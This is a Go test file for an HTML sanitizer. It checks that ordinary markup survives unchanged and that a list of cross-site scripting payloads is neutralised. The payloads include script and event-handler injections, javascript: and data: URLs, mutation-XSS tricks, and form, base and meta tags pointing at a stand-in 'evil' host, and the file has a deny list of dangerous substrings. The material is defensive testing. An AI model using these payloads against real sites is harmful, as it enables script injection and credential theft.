package render

import (
	"strings"
	"testing"
)

func TestSanitizeHTMLKeepsWhatPeopleWrite(t *testing.T) {
	for _, in := range []string{
		`<p>Hello <b>world</b></p>`,
		`<h2 data-block="b-0a1b2c3d">Goal</h2>`,
		`<p style="text-align: center">H<sub>2</sub>O</p>`,
		`<table><tbody><tr><th scope="row">T</th><td colspan="2">80 °C</td></tr></tbody></table>`,
		`<img src="app/download.php?f=ab/cd.png" alt="plate"/>`,
		`<ul data-type="taskList"><li data-type="taskItem" data-checked="true"><p>degas</p></li></ul>`,
		`<pre><code class="language-python">x = 1</code></pre>`,
		`<p data-overlap="mine">80 °C</p>`,
	} {
		if got := SanitizeHTML(in); got != in {
			t.Errorf("%s\nbecame %s", in, got)
		}
	}
}

func TestSanitizeHTMLStopsWhatRuns(t *testing.T) {
	for _, in := range []string{
		`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt&colon;alert(1)">x</a>`,
		`<svg onload=alert(1)><script>alert(1)</script></svg>`, `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
		`<object data="data:text/html,<script>alert(1)</script>"></object>`, `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`,
		`<img src="data:image/svg+xml;base64,PHN2Zz4=">`, `<p style="background:url(javascript:alert(1))">x</p>`, `<style>@import 'http://evil'</style>`,
		`<form action="https://evil"><input name=password></form>`, `<base href="https://evil/">`, `<meta http-equiv=refresh content="0;url=https://evil">`,
		`<p data-block="b-1&quot; onclick=&quot;x">x</p>`, `<template><img src=x onerror=alert(1)></template>`, `<!--><img src=x onerror=alert(1)>-->`,
	} {
		got := strings.ToLower(SanitizeHTML(in))
		for _, bad := range []string{"<script", "onerror=", "onload=", "onclick=\"", "javascript:", "<svg", "<math", "<iframe", "<object", "<style", "<form",
			"<base", "<meta", "data:text", "svg+xml", "<template", "url("} {
			if strings.Contains(got, bad) {
				t.Errorf("%s\nkept %q: %s", in, bad, got)
			}
		}
	}
}

func FuzzSanitizeHTML(f *testing.F) {
	f.Add(`<p>a<b>c</p><img src=x onerror=1>`)
	f.Add("<svg><style><img src=x>")
	f.Fuzz(func(t *testing.T, s string) {
		once := SanitizeHTML(s)
		if twice := SanitizeHTML(once); twice != once {
			t.Errorf("not a fixed point:\n%q\n%q\n%q", s, once, twice)
		}
	})
}
